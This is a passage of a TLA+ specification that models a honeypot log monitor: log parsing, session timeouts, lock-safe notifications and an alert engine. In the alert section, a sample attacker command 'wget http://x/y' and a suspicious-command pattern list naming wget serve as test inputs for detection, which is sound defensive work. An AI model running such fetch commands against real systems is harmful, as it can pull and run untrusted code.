    LET v == Index(value, field_name)
    IN  IF json_as_u64(v) # None THEN json_as_u64(v)
        ELSE IF as_str(v) # None THEN parse_u64(as_str(v)[1])
        ELSE None

\* The keys extract_additional_fields leaves out of the open field map.
SkippedKeys ==
    {"id", "timestamp", "eventid", "session", "src_ip", "src_port",
     "dst_ip", "dst_port", "username", "password", "input"}

extract_additional_fields(value) ==
    IF value.t = "object"
    THEN [k \in (DOMAIN value.v) \ SkippedKeys |-> value.v[k]]
    ELSE EmptyMap

extract_file_info(value, event_type) ==
    IF event_type \in {"FileUpload", "FileDownload"}
    THEN IF extract_string_field(value, "filename") = None THEN None
         ELSE IF ~extract_timestamp(value).ok THEN None
         ELSE Some([filename |-> extract_string_field(value, "filename")[1],
                    local_path |-> extract_string_field(value, "outfile"),
                    size |-> None,
                    shasum |-> extract_string_field(value, "shasum"),
                    timestamp |-> extract_timestamp(value).val,
                    direction |-> IF event_type = "FileUpload" THEN "Upload" ELSE "Download",
                    mime_type |-> None,
                    is_executable |-> FALSE,
                    is_malware |-> FALSE])
    ELSE None

\* Option::map(|n| n as u16).
port_of(opt) == IF opt = None THEN None ELSE Some(as_u16(opt[1]))

\* LogAnalyzer::parse_log_entry; n stands for the fresh Uuid::new_v4.
json_parse_log_entry(n, line) ==
    IF line.t = "notjson" THEN Err("Failed to parse log entry as JSON")
    ELSE IF ~extract_event_type(line).ok THEN extract_event_type(line)
    ELSE IF ~extract_timestamp(line).ok THEN extract_timestamp(line)
    ELSE Ok([id |-> n,
             timestamp |-> extract_timestamp(line).val,
             event_type |-> extract_event_type(line).val,
             session |-> extract_string_field(line, "session"),
             src_ip |-> extract_string_field(line, "src_ip"),
             src_port |-> port_of(extract_number_field(line, "src_port")),
             dst_ip |-> extract_string_field(line, "dst_ip"),
             dst_port |-> port_of(extract_number_field(line, "dst_port")),
             username |-> extract_string_field(line, "username"),
             password |-> extract_string_field(line, "password"),
             command |-> extract_string_field(line, "input"),
             file |-> extract_file_info(line, extract_event_type(line).val),
             fields |-> extract_additional_fields(line),
             raw |-> line])

ParseInit ==
    /\ store = StoreNew(MaxCap, MaxCap)
    /\ StoreHistIdle
    /\ PipeIdle
    /\ ScoreIdle
    /\ DetIdle
    /\ TailIdle
    /\ QuitIdle
    /\ LockIdle
    /\ ApiIdle
    /\ ConnIdle
    /\ SweepRunIdle
    /\ Ext3Idle
    /\ ParseIdle

ParseFrame ==
    UNCHANGED <<storeHist, pipeVars, scoreVars, detVars, tailVars, quitVars, lockVars,
                apiVars, connVars, sweepRunVars, ext3Vars>>

\* One round of the loop of process_file_changes (log_watcher.rs:197-215):
\* an entry is added to the store and sent, an error is only logged.
ProcessLine(line) ==
    /\ p_n < MaxParseLines
    /\ LET result == json_parse_log_entry(p_n + 1, line)
       IN  /\ p_result' = result
           /\ IF result.ok
              THEN /\ store' = add_log_entry(store, result.val)
                   /\ p_published' = Append(p_published, NewLogEntry(result.val))
              ELSE UNCHANGED <<store, p_published>>
    /\ p_line' = line
    /\ p_n' = p_n + 1
    /\ ParseFrame

ParseNext == \E line \in InputLines : ProcessLine(line)

SpecParse == ParseInit /\ [][ParseNext]_vars

\* The strings that are RFC 3339 timestamps.
Rfc3339Strings == {"2024-01-01T00:00:10Z", "2024-01-01T02:00:10+02:00"}

\* The line is a JSON object in which eventid or timestamp is missing or is
\* no string, or the timestamp string is not RFC 3339.
BadMandatory(line) ==
    /\ line.t = "object"
    /\ \/ \E k \in {"eventid", "timestamp"} : k \notin DOMAIN line.v \/ line.v[k].t # "string"
       \/ /\ "timestamp" \in DOMAIN line.v
          /\ line.v["timestamp"].t = "string"
          /\ line.v["timestamp"].v \notin Rfc3339Strings

(***************************************************************************)
(* C28.  For every line whose object lacks eventid or timestamp, or has    *)
(* one of them with a non-string value, or has a timestamp string that is  *)
(* not RFC 3339, parse_log_entry returns an error and the watcher neither  *)
(* stores nor publishes anything for that line.                            *)
(***************************************************************************)
C28_BadMandatoryIsError ==
    /\ []((p_n > 0 /\ BadMandatory(p_line)) => ~p_result.ok)
    /\ [][BadMandatory(p_line') =>
            /\ ~p_result'.ok
            /\ store' = store
            /\ p_published' = p_published]_vars

\* After a stored and published line, a line with a timestamp that is not
\* RFC 3339 was refused.
C28_Witness ==
    /\ p_n = 2
    /\ Len(p_published) = 1
    /\ Cardinality(DOMAIN store.log_entries) = 1
    /\ BadMandatory(p_line)
    /\ "timestamp" \in DOMAIN p_line.v
    /\ p_line.v["timestamp"] = JStr("yesterday")
    /\ ~p_result.ok

\* The named member of the LogEntry a key of the line is extracted into.
MemberOf ==
    [eventid |-> "event_type", timestamp |-> "timestamp", session |-> "session",
     src_ip |-> "src_ip", src_port |-> "src_port", dst_ip |-> "dst_ip",
     dst_port |-> "dst_port", username |-> "username", password |-> "password",
     input |-> "command"]

\* The key was consumed: it has a named member and that member took a value
\* from it.  The member id is a fresh identifier and takes nothing from the
\* line.
Consumed(key, entry) ==
    /\ key \in DOMAIN MemberOf
    /\ \/ key \in {"eventid", "timestamp"}
       \/ entry[MemberOf[key]] # None

\* The key is in the open field map with the value the line gave it.
InFields(key, line, entry) ==
    /\ key \in DOMAIN entry.fields
    /\ entry.fields[key] = line.v[key]

(***************************************************************************)
(* C29.  For every line that was parsed into an entry, every top-level key *)
(* of the line's object is either consumed into its named member of the    *)
(* entry or is in the open field map with its original value.              *)
(***************************************************************************)
C29_NoFieldDropped ==
    (p_n > 0 /\ p_result.ok) =>
        \A key \in DOMAIN p_line.v :
            Consumed(key, p_result.val) \/ InFields(key, p_line, p_result.val)

\* The same for the keys that extract_additional_fields does not skip.
UnskippedKeysKept ==
    (p_n > 0 /\ p_result.ok) =>
        \A key \in (DOMAIN p_line.v) \ SkippedKeys : InFields(key, p_line, p_result.val)

(***************************************************************************)
(* SpecSweep: SessionManager::check_session_timeouts                       *)
(* (session_manager.rs:322-370) on a store whose sessions began before,    *)
(* at, or after the sweep's clock reading.  A session's start_time is the  *)
(* timestamp of the log line that created it, written by the honeypot's    *)
(* clock; now is the monitor's clock.                                      *)
(***************************************************************************)
\* Number of runs of the sweep.
MaxSweepRuns == 2

\* The clock reading of the first run.
SweepStart == session_timeout + 1

\* start_time of the sessions in the store: elapsed at the first run is
\* 1801, 1800, 1799, -1 and -2199 seconds.
SweepStartTimes == {0, 1, 2, SweepStart + 1, 4000}

SessionUpdate(session) == [event |-> "SessionUpdate", session |-> session]

\* A session as process_log_entry created it from a Connect line stamped ts,
\* open, or closed by a Disconnect line with the same stamp.
SweepSession(id, ts, closed) ==
    LET s == create_session_from_log_entry(id,
                 LogEntry(id, ts, "Connect", Some(id), None, None, EmptyMap))
    IN  IF closed THEN [s EXCEPT !.end_time = Some(ts), !.duration = Some(as_u64(0))]
        ELSE s

SweepStores ==
    {add_session(StoreNew(MaxCap, MaxCap), SweepSession("s1", t1, c1)) :
        t1 \in SweepStartTimes, c1 \in BOOLEAN}
    \cup
    {add_session(add_session(StoreNew(MaxCap, MaxCap), SweepSession("s1", t1, c1)),
                 SweepSession("s2", t2, c2)) :
        t1 \in SweepStartTimes, c1 \in BOOLEAN, t2 \in SweepStartTimes, c2 \in BOOLEAN}

SweepInit ==
    /\ store \in SweepStores
    /\ StoreHistIdle
    /\ PipeIdle
    /\ ScoreIdle
    /\ DetIdle
    /\ TailIdle
    /\ QuitIdle
    /\ LockIdle
    /\ ApiIdle
    /\ ConnIdle
    /\ ParseIdle
    /\ Ext3Idle
    /\ sw_now = SweepStart
    /\ sw_pc = "tick"
    /\ sw_updates = <<>>
    /\ sw_before = None
    /\ sw_sent = <<>>
    /\ sw_runs = 0

SweepFrame ==
    UNCHANGED <<storeHist, pipeVars, scoreVars, detVars, tailVars, quitVars, lockVars,
                apiVars, connVars, parseVars, ext3Vars>>

\* interval.tick(), Utc::now() and the read block (lines 330-353).  Time
\* has passed since the run before.
SweepRunRead ==
    /\ sw_pc = "tick"
    /\ sw_runs < MaxSweepRuns
    /\ LET t == IF sw_runs = 0 THEN sw_now ELSE sw_now + 1
       IN  /\ sw_now' = t
           /\ sw_updates' = TimedOutSessions(store, t)
    /\ sw_before' = Some(store)
    /\ sw_pc' = "write"
    /\ UNCHANGED <<store, sw_sent, sw_runs>>
    /\ SweepFrame

\* The messages of the write block: one per copy whose update succeeded.
RECURSIVE SweepSends(_, _)
SweepSends(st, updates) ==
    IF updates = <<>> THEN <<>>
    ELSE (IF update_session_ok(st, Head(updates))
          THEN <<SessionUpdate(Head(updates))>> ELSE <<>>)
         \o SweepSends(update_session(st, Head(updates)), Tail(updates))

\* The write block (lines 356-367).
SweepRunWrite ==
    /\ sw_pc = "write"
    /\ store' = SweepWriteBack(store, sw_updates)
    /\ sw_sent' = sw_sent \o SweepSends(store, sw_updates)
    /\ sw_updates' = <<>>
    /\ sw_pc' = "tick"
    /\ sw_runs' = sw_runs + 1
    /\ UNCHANGED <<sw_now, sw_before>>
    /\ SweepFrame

SweepNext ==
    \/ SweepRunRead
    \/ SweepRunWrite

SpecSweep == SweepInit /\ [][SweepNext]_vars

\* What the run has to make of session s at clock reading t: closed when s
\* is open and began more than session_timeout seconds before t.
SweptSession(s, t) ==
    IF s.end_time = None /\ t - s.start_time > session_timeout
    THEN [s EXCEPT !.end_time = Some(t), !.duration = Some(as_u64(t - s.start_time))]
    ELSE s

(***************************************************************************)
(* C30.  After a run of check_session_timeouts at clock reading now, every *)
(* session that was resident when the run began is closed with end_time =  *)
(* now and duration = now - start_time if it was open and now - start_time *)
(* is strictly greater than the timeout, and is unchanged otherwise: also  *)
(* when its start_time is later than now.                                  *)
(***************************************************************************)
C30_SweepThresholdExact ==
    (sw_pc = "tick" /\ sw_runs > 0) =>
        \A id \in DOMAIN sw_before[1].sessions :
            /\ id \in DOMAIN store.sessions
            /\ store.sessions[id] = SweptSession(sw_before[1].sessions[id], sw_now)

\* The same for the sessions that did not begin after the clock reading.
SweepExactForPast ==
    (sw_pc = "tick" /\ sw_runs > 0) =>
        \A id \in DOMAIN sw_before[1].sessions :
            sw_before[1].sessions[id].start_time <= sw_now =>
                /\ id \in DOMAIN store.sessions
                /\ store.sessions[id] = SweptSession(sw_before[1].sessions[id], sw_now)

(***************************************************************************)
(* SpecUpd: SessionManager::process_log_entry                              *)
(* (session_manager.rs:111-155) by the one listener task, and the timeout  *)
(* sweep, on the events of one connection whose timestamps come in any     *)
(* order and whose destination port may be given or not.                   *)
(***************************************************************************)
\* Number of entries one run processes.
MaxUpdEvents == 3

\* The timestamps the lines carry.
UpdTimes == {10, 20, 2000}

\* The clock reading of the sweep: nothing begins later.
UpdSweepNow == 2000

\* entry.dst_port of the lines.
UpdPorts == {None, Some(22), Some(23), Some(80)}

\* The n-th entry: an event of connection s1, or an entry with no
\* connection id.
UpdEntries(n) ==
    {[LogEntry(n, ts, k, Some("s1"), None, None, EmptyMap) EXCEPT !.dst_port = p] :
        ts \in UpdTimes, k \in {"Connect", "Disconnect", "LoginFailed"}, p \in UpdPorts}
    \cup {LogEntry(n, 10, "Unknown", None, None, None, EmptyMap)}

\* end_time and duration of a session.
CloseOf(session) == [end_time |-> session.end_time, duration |-> session.duration]

\* The first close of s1: kept once set.
FirstClose(first, st) ==
    IF first = None /\ "s1" \in DOMAIN st.sessions /\ st.sessions["s1"].end_time # None
    THEN Some(CloseOf(st.sessions["s1"]))
    ELSE first

UpdInit ==
    /\ store = StoreNew(MaxCap, MaxCap)
    /\ StoreHistIdle
    /\ PipeIdle
    /\ ExtIdle

UpdFrame ==
    UNCHANGED <<storeHist, pipeVars, scoreVars, detVars, tailVars, quitVars, lockVars,
                apiVars, connVars, parseVars, sweepRunVars, notifyVars, alertVars, chanVars>>

\* process_log_entry from its read to its write; an entry with no
\* connection id returns at line 120.
UpdProcess ==
    /\ u_n < MaxUpdEvents
    /\ \E entry \in UpdEntries(u_n + 1) :
          /\ u_entry' = Some(entry)
          /\ IF entry.session = None
             THEN /\ u_before' = None
                  /\ UNCHANGED <<store, u_first_close>>
             ELSE LET read == get_session(store, entry.session[1])
                      st == AggWriteBack(store, ProcessedSession(read, entry))
                  IN  /\ u_before' = read
                      /\ store' = st
                      /\ u_first_close' = FirstClose(u_first_close, st)
    /\ u_n' = u_n + 1
    /\ UpdFrame

\* One run of check_session_timeouts between two entries.
UpdSweep ==
    /\ TimedOutSessions(store, UpdSweepNow) # <<>>
    /\ LET st == SweepWriteBack(store, TimedOutSessions(store, UpdSweepNow))
       IN  /\ store' = st
           /\ u_first_close' = FirstClose(u_first_close, st)
    /\ u_entry' = None
    /\ u_before' = None
    /\ UNCHANGED u_n
    /\ UpdFrame

UpdNext ==
    \/ UpdProcess
    \/ UpdSweep

SpecUpd == UpdInit /\ [][UpdNext]_vars

(***************************************************************************)
(* C31.  After a Disconnect event was applied to an existing session, the  *)
(* session's end_time is the event's timestamp and its duration is         *)
(* end_time minus start_time in whole seconds and has not wrapped, also    *)
(* when the timestamp is earlier than the session's start_time.            *)
(***************************************************************************)
C31_DisconnectFinalizes ==
    (/\ u_entry # None
     /\ u_entry[1].event_type = "Disconnect"
     /\ u_before # None)
    => LET s == store.sessions["s1"]
       IN  /\ s.end_time = Some(u_entry[1].timestamp)
           /\ s.duration # None
           /\ s.duration[1].wrap = 0
           /\ s.end_time[1] >= s.start_time => s.duration[1].val = s.end_time[1] - s.start_time

\* The same for a Disconnect that is not earlier than the session's start.
DisconnectInOrderFinalizes ==
    (/\ u_entry # None
     /\ u_entry[1].event_type = "Disconnect"
     /\ u_before # None
     /\ u_entry[1].timestamp >= u_before[1].start_time)
    => LET s == store.sessions["s1"]
       IN  /\ s.end_time = Some(u_entry[1].timestamp)
           /\ s.duration = Some([wrap |-> 0, val |-> s.end_time[1] - s.start_time])

\* The transport label of a destination port.
TransportLabel(port) ==
    CASE port \in {22, 2222} -> "SSH"
      [] port \in {23, 2223} -> "Telnet"
      [] OTHER -> "Unknown"

(***************************************************************************)
(* C33.  In every reachable state the protocol of each stored session is   *)
(* the label of its dst_port: SSH for 22 and 2222, Telnet for 23 and 2223, *)
(* Unknown otherwise, also after a Connect event has overwritten dst_port  *)
(* on a session created from an event without a destination port.          *)
(***************************************************************************)
C33_ProtocolTracksPort ==
    \A id \in DOMAIN store.sessions :
        store.sessions[id].protocol = TransportLabel(store.sessions[id].dst_port)

\* The same right after each session was created.
ProtocolOfCreatedSession ==
    (u_entry # None /\ u_entry[1].session # None /\ u_before = None) =>
        store.sessions["s1"].protocol = TransportLabel(store.sessions["s1"].dst_port)

(***************************************************************************)
(* C38.  Once the stored session has end_time set, by a Disconnect or by   *)
(* the sweep, every further event of its connection, a second Disconnect   *)
(* with another timestamp included, leaves end_time and duration as the    *)
(* first close set them.                                                   *)
(***************************************************************************)
C38_CloseIdempotent ==
    (u_first_close # None /\ "s1" \in DOMAIN store.sessions) =>
        CloseOf(store.sessions["s1"]) = u_first_close[1]

\* The same as long as no Disconnect arrives after the first close.
CloseKeptByOtherEvents ==
    [][(/\ u_first_close # None
        /\ u_entry' # None
        /\ u_entry'[1].event_type # "Disconnect"
        /\ "s1" \in DOMAIN store.sessions)
       => CloseOf(store'.sessions["s1"]) = CloseOf(store.sessions["s1"])]_vars

(***************************************************************************)
(* SpecNotify: the listener task running process_log_entry                 *)
(* (session_manager.rs:111-155) and the interval task running              *)
(* check_session_timeouts (lines 322-370), step by step through their lock *)
(* sections and their sends.  A guard lives to the end of the block that   *)
(* took it.                                                                *)
(***************************************************************************)
\* Number of entries the listener receives.
MaxNotifyEvents == 2

\* The n-th entry published: events of two connections stamped 10, or an
\* entry with no connection id.
NotifyEntries(n) ==
    {LogEntry(n, 10, "Connect", Some(sid), None, None, EmptyMap) : sid \in {"s1", "s2"}}
    \cup {LogEntry(n, 10, "Command", Some("s1"), None, Some("ls"), EmptyMap),
          LogEntry(n, 10, "Unknown", None, None, None, EmptyMap)}

\* event_tx.send(AppEvent::SessionUpdate(session)) by task t.
SendUpdate(sent, t, session, writer) ==
    Append(sent, [msg |-> SessionUpdate(session), by |-> t, held |-> writer = Some(t)])

NotifyInit ==
    /\ store = StoreNew(MaxCap, MaxCap)
    /\ StoreHistIdle
    /\ PipeIdle
    /\ ExtIdle

NotifyFrame ==
    UNCHANGED <<storeHist, pipeVars, scoreVars, detVars, tailVars, quitVars, lockVars,
                apiVars, connVars, parseVars, sweepRunVars, updVars, alertVars, chanVars>>

\* rx.recv() hands the listener a NewLogEntry; an entry with no connection
\* id returns at line 120.
NAggRecv ==
    /\ n_pc.agg = "recv"
    /\ n_count < MaxNotifyEvents
    /\ \E entry \in NotifyEntries(n_count + 1) :
          IF entry.session = None
          THEN UNCHANGED <<n_pc, n_entry>>
          ELSE /\ n_pc' = [n_pc EXCEPT !.agg = "read"]
               /\ n_entry' = Some(entry)
    /\ n_count' = n_count + 1
    /\ UNCHANGED <<store, n_writer, n_session, n_updates, n_sent>>
    /\ NotifyFrame

\* Lines 124-139: the read block (guard taken and dropped) and the update
\* or creation of the session.
NAggRead ==
    /\ n_pc.agg = "read"
    /\ n_writer = None
    /\ n_session' = Some(ProcessedSession(get_session(store, n_entry[1].session[1]),
                                          n_entry[1]))
    /\ n_pc' = [n_pc EXCEPT !.agg = "lock"]
    /\ UNCHANGED <<store, n_writer, n_entry, n_updates, n_sent, n_count>>
    /\ NotifyFrame

\* Line 143: store.write().await.
NAggLock ==
    /\ n_pc.agg = "lock"
    /\ n_writer = None
    /\ n_writer' = Some("agg")
    /\ n_pc' = [n_pc EXCEPT !.agg = "write"]
    /\ UNCHANGED <<store, n_entry, n_session, n_updates, n_sent, n_count>>
    /\ NotifyFrame

\* Lines 144-149: update or insert, and the end of the block drops the guard.
NAggWrite ==
    /\ n_pc.agg = "write"
    /\ store' = AggWriteBack(store, n_session[1])
    /\ n_writer' = None
    /\ n_pc' = [n_pc EXCEPT !.agg = "send"]
    /\ UNCHANGED <<n_entry, n_session, n_updates, n_sent, n_count>>
    /\ NotifyFrame

\* Line 152: the send, after the block.
NAggSend ==
    /\ n_pc.agg = "send"
    /\ n_sent' = SendUpdate(n_sent, "agg", n_session[1], n_writer)
    /\ n_pc' = [n_pc EXCEPT !.agg = "recv"]
    /\ n_entry' = None
    /\ n_session' = None
    /\ UNCHANGED <<store, n_writer, n_updates, n_count>>
    /\ NotifyFrame

\* Lines 330-353: the read block of the sweep.
NSweepRead ==
    /\ n_pc.sweep = "tick"
    /\ n_writer = None
    /\ n_updates' = TimedOutSessions(store, UpdSweepNow)
    /\ n_pc' = [n_pc EXCEPT !.sweep = "lock"]
    /\ UNCHANGED <<store, n_writer, n_entry, n_session, n_sent, n_count>>
    /\ NotifyFrame

\* Line 357: store.write().await, taken whether or not anything was collected.
NSweepLock ==
    /\ n_pc.sweep = "lock"
    /\ n_writer = None
    /\ n_writer' = Some("sweep")
    /\ n_pc' = [n_pc EXCEPT !.sweep = "loop"]
    /\ UNCHANGED <<store, n_entry, n_session, n_updates, n_sent, n_count>>
    /\ NotifyFrame

\* Lines 359-365: one round of the loop inside the write block: the update
\* and, when it succeeded, the send.
NSweepUpdate ==
    /\ n_pc.sweep = "loop"
    /\ n_updates # <<>>
    /\ store' = update_session(store, Head(n_updates))
    /\ n_sent' = IF update_session_ok(store, Head(n_updates))
                 THEN SendUpdate(n_sent, "sweep", Head(n_updates), n_writer)
                 ELSE n_sent
    /\ n_updates' = Tail(n_updates)
    /\ UNCHANGED <<n_pc, n_writer, n_entry, n_session, n_count>>
    /\ NotifyFrame

\* Line 367: the end of the write block drops the guard.
NSweepUnlock ==
    /\ n_pc.sweep = "loop"
    /\ n_updates = <<>>
    /\ n_writer' = None
    /\ n_pc' = [n_pc EXCEPT !.sweep = "tick"]
    /\ UNCHANGED <<store, n_entry, n_session, n_updates, n_sent, n_count>>
    /\ NotifyFrame

NotifyNext ==
    \/ NAggRecv
    \/ NAggRead
    \/ NAggLock
    \/ NAggWrite
    \/ NAggSend
    \/ NSweepRead
    \/ NSweepLock
    \/ NSweepUpdate
    \/ NSweepUnlock

SpecNotify == NotifyInit /\ [][NotifyNext]_vars

(***************************************************************************)
(* C32.  Every SessionUpdate sent by the listener or by the timeout sweep  *)
(* was sent when the sending task did not hold the write guard of the      *)
(* store.                                                                  *)
(***************************************************************************)
C32_NoSendUnderWriteLock ==
    \A i \in 1..Len(n_sent) : ~n_sent[i].held

\* The same for the listener's sends alone.
ListenerSendsAfterUnlock ==
    \A i \in 1..Len(n_sent) : n_sent[i].by = "agg" => ~n_sent[i].held

(***************************************************************************)
(* SpecAlert: AlertEngine (alert_engine.rs:64-330) fed with log entries    *)
(* and session updates, for every setting of the switches `enabled` and    *)
(* `on_new_source_ip`.  known_ips holds parsed addresses, the alerts carry *)
(* the text of the entry.                                                  *)
(***************************************************************************)
\* Number of events the engine processes.
MaxAlertEvents == 3

\* IpAddr::from_str on the texts of the inputs: two spellings of one IPv6
\* address parse to the same IpAddr, a text that is no address is Err.
IpAddr_from_str(str) ==
    CASE str \in {"2001:db8::1", "2001:DB8:0:0:0:0:0:1"} -> Some("addr_2001_db8__1")
      [] str = "10.0.0.66" -> Some("addr_10_0_0_66")
      [] OTHER -> None

\* entry.src_ip of the inputs.
AlertIpTexts == {"2001:db8::1", "2001:DB8:0:0:0:0:0:1", "10.0.0.66", "not-an-ip"}

\* The parsed addresses of a list of texts (AlertEngine::new, lines 83-94).
ParsedIps(texts) ==
    {IpAddr_from_str(texts[i])[1] : i \in {j \in 1..Len(texts) : IpAddr_from_str(texts[j]) # None}}

\* The settings of the engine.
AlertConfigs ==
    [enabled : BOOLEAN, on_successful_login : {TRUE}, on_file_upload : {TRUE},
     on_commands : {<<"wget">>}, on_new_source_ip : BOOLEAN,
     ip_blacklist : {<<"10.0.0.66", "bad">>}, ip_whitelist : {<<>>}]

\* The entries the engine is given.
AlertEntries(n) ==
    {[LogEntry(n, 10, "Connect", Some("s1"), None, None, EmptyMap) EXCEPT !.src_ip = ip] :
        ip \in {None} \cup {Some(t) : t \in AlertIpTexts}}
    \cup {[LogEntry(n, 10, "LoginSuccess", Some("s1"), Some("root"), None, EmptyMap)
             EXCEPT !.src_ip = Some("10.0.0.66")],
          LogEntry(n, 10, "Command", Some("s1"), None, Some("wget http://x/y"), EmptyMap)}

\* The session updates the engine is given.
AlertSessions ==
    {[create_session_from_log_entry("s1",
          LogEntry(1, 10, "Connect", Some("s1"), None, None, EmptyMap))
        EXCEPT !.malicious_score = sc] : sc \in {79, 80}}

\* command.contains(cmd_pattern) on the texts of the inputs.
CommandContains(command, pattern) == command = "wget http://x/y" /\ pattern = "wget"

\* AlertEngine::trigger_alert (lines 267-305): the alert is appended.
trigger_alert(list, alert_type, message) ==
    Append(list, [alert_type |-> alert_type, acknowledged |-> FALSE, message |-> message])

\* A plausible slip: the address is not remembered.
remember_ip_forgets(known, ip) == known

\* self.known_ips.insert(ip) (line 182).
remember_ip(known, ip) == known \cup {ip}

\* Lines 141-151.
AfterLoginCheck(cfg, list, entry) ==
    IF /\ cfg.on_successful_login
       /\ entry.event_type = "LoginSuccess"
       /\ entry.session # None /\ entry.username # None /\ entry.src_ip # None
    THEN trigger_alert(list,
            [type |-> "SuccessfulLogin", session_id |-> entry.session[1],
             username |-> entry.username[1], src_ip |-> entry.src_ip[1]],
            <<"Successful login for user", entry.username[1], entry.src_ip[1]>>)
    ELSE list

\* Lines 154-162.
AfterUploadCheck(cfg, list, entry) ==
    IF /\ cfg.on_file_upload
       /\ entry.event_type = "FileUpload"
       /\ entry.session # None /\ entry.file # None
    THEN trigger_alert(list,
            [type |-> "FileUpload", session_id |-> entry.session[1],
             filename |-> entry.file[1].filename, shasum |-> entry.file[1].shasum],
            <<"File uploaded", entry.file[1].filename, entry.file[1].shasum>>)
    ELSE list

\* Lines 165-177: one alert for the first pattern the command contains.
AfterCommandCheck(cfg, list, entry) ==
    IF /\ entry.event_type = "Command"
       /\ entry.session # None /\ entry.command # None
       /\ \E i \in 1..Len(cfg.on_commands) : CommandContains(entry.command[1], cfg.on_commands[i])
    THEN trigger_alert(list,
            [type |-> "SuspiciousCommand", session_id |-> entry.session[1],
             command |-> entry.command[1]],
            <<"Suspicious command", entry.command[1]>>)
    ELSE list

\* Lines 180-191: is the entry's source IP a new address?
IsNewSourceIp(cfg, known, entry) ==
    /\ cfg.on_new_source_ip
    /\ entry.src_ip # None
    /\ IpAddr_from_str(entry.src_ip[1]) # None
    /\ IpAddr_from_str(entry.src_ip[1])[1] \notin known

AfterNewIpCheck(cfg, known, list, entry) ==
    IF IsNewSourceIp(cfg, known, entry)
    THEN trigger_alert(list, [type |-> "NewSourceIp", ip |-> entry.src_ip[1]],
                       <<"New source IP detected", entry.src_ip[1]>>)
    ELSE list

\* Lines 194-202.
AfterBlacklistCheck(cfg, list, entry) ==
    IF /\ entry.src_ip # None
       /\ IpAddr_from_str(entry.src_ip[1]) # None
       /\ IpAddr_from_str(entry.src_ip[1])[1] \in ParsedIps(cfg.ip_blacklist)
       /\ IpAddr_from_str(entry.src_ip[1])[1] \notin ParsedIps(cfg.ip_whitelist)
    THEN trigger_alert(list, [type |-> "BlacklistedIp", ip |-> entry.src_ip[1]],
                       <<"Connection from blacklisted IP", entry.src_ip[1]>>)
    ELSE list

AlertInit ==
    /\ store = StoreNew(MaxCap, MaxCap)
    /\ StoreHistIdle
    /\ PipeIdle
    /\ ScoreIdle
    /\ DetIdle
    /\ TailIdle
    /\ QuitIdle
    /\ LockIdle
    /\ ApiIdle
    /\ ConnIdle
    /\ ParseIdle
    /\ SweepRunIdle
    /\ UpdIdle
    /\ NotifyIdle
    /\ ChanIdle
    /\ alert_config \in {Some(c) : c \in AlertConfigs}
    /\ known_ips = {}
    /\ alerts = <<>>
    /\ al_seen = {}
    /\ al_n = 0

AlertFrame ==
    UNCHANGED <<store, storeHist, pipeVars, scoreVars, detVars, tailVars, quitVars, lockVars,
                apiVars, connVars, parseVars, sweepRunVars, updVars, notifyVars, chanVars,
                alert_config>>

\* AlertEngine::process_log_entry (lines 134-205).
AlertProcessLogEntry ==
    /\ al_n < MaxAlertEvents
    /\ \E entry \in AlertEntries(al_n + 1) :
          LET cfg == alert_config[1]
              parsed == IF entry.src_ip = None THEN None ELSE IpAddr_from_str(entry.src_ip[1])
          IN  /\ al_seen' = al_seen \cup Range(parsed)
              /\ IF ~cfg.enabled
                 THEN UNCHANGED <<known_ips, alerts>>
                 ELSE /\ known_ips' = IF IsNewSourceIp(cfg, known_ips, entry)
                                      THEN remember_ip(known_ips, parsed[1])
                                      ELSE known_ips
                      /\ alerts' =
                           AfterBlacklistCheck(cfg,
                             AfterNewIpCheck(cfg, known_ips,
                               AfterCommandCheck(cfg,
                                 AfterUploadCheck(cfg,
                                   AfterLoginCheck(cfg, alerts, entry), entry), entry),
                               entry), entry)
    /\ al_n' = al_n + 1
    /\ AlertFrame

\* AlertEngine::process_session_update (lines 208-224) on a session with no
\* user, command or file, for which determine_risk_reason gives its default.
AlertProcessSessionUpdate ==
    /\ al_n < MaxAlertEvents
    /\ \E session \in AlertSessions :
          alerts' = IF alert_config[1].enabled /\ session.malicious_score >= 80
                    THEN trigger_alert(alerts,
                            [type |-> "HighRiskActivity", session_id |-> session.id,
                             risk_score |-> session.malicious_score,
                             reason |-> "Unknown high risk activity"],
                            <<"High risk activity detected", session.malicious_score>>)
                    ELSE alerts
    /\ al_n' = al_n + 1
    /\ UNCHANGED <<known_ips, al_seen>>
    /\ AlertFrame

AlertNext ==
    \/ AlertProcessLogEntry
    \/ AlertProcessSessionUpdate

SpecAlert == AlertInit /\ [][AlertNext]_vars

\* The NewSourceIp alerts whose text parses to address a.
NewIpAlertsFor(a) ==
    {i \in 1..Len(alerts) :
        /\ alerts[i].alert_type.type = "NewSourceIp"
        /\ IpAddr_from_str(alerts[i].alert_type.ip) = Some(a)}

\* The addresses the texts of the inputs parse to.
AlertAddrs == {IpAddr_from_str(t)[1] : t \in {x \in AlertIpTexts : IpAddr_from_str(x) # None}}

(***************************************************************************)
(* C34.  With alerting and the new-source-IP trigger enabled, after any    *)
(* sequence of processed entries the alert list holds exactly one          *)
(* NewSourceIp alert for every address a source IP parsed to and none for  *)
(* any other; with alerting disabled the alert list and the known-IP set   *)
(* stay empty.                                                             *)
(***************************************************************************)
C34_NewSourceIpOnce ==
    /\ (alert_config[1].enabled /\ alert_config[1].on_new_source_ip) =>
          /\ \A a \in AlertAddrs :
                Cardinality(NewIpAlertsFor(a)) = IF a \in al_seen THEN 1 ELSE 0
          /\ \A i \in 1..Len(alerts) :
                alerts[i].alert_type.type = "NewSourceIp" =>
                    IpAddr_from_str(alerts[i].alert_type.ip) # None
    /\ ~alert_config[1].enabled => (alerts = <<>> /\ known_ips = {})

\* Both spellings of one address and another address were processed: two
\* NewSourceIp alerts.
C34_Witness ==
    /\ alert_config[1].enabled
    /\ alert_config[1].on_new_source_ip
    /\ al_n = 3
    /\ al_seen = AlertAddrs
    /\ Cardinality({i \in 1..Len(alerts) : alerts[i].alert_type.type = "NewSourceIp"}) = 2
    /\ \E i, j \in 1..Len(alerts) :
          /\ alerts[i].alert_type = [type |-> "NewSourceIp", ip |-> "10.0.0.66"]
          /\ alerts[j].alert_type.type = "NewSourceIp"
          /\ IpAddr_from_str(alerts[j].alert_type.ip) = Some("addr_2001_db8__1")

(***************************************************************************)
(* SpecChan: the listener task of SessionManager::start                    *)
(* (session_manager.rs:72-94) on its receiver of the broadcast channel     *)
(* made by App::new (app.rs:127).  A broadcast channel retains a bounded   *)
(* number of messages; a send never waits and pushes out the oldest        *)
(* retained message, and a receiver that is behind the oldest retained     *)
(* message gets Err(Lagged) from recv.  The listener is subscribed from    *)
(* the start; the senders are the watcher, the listener itself and         *)
(* App::quit.                                                              *)
(***************************************************************************)
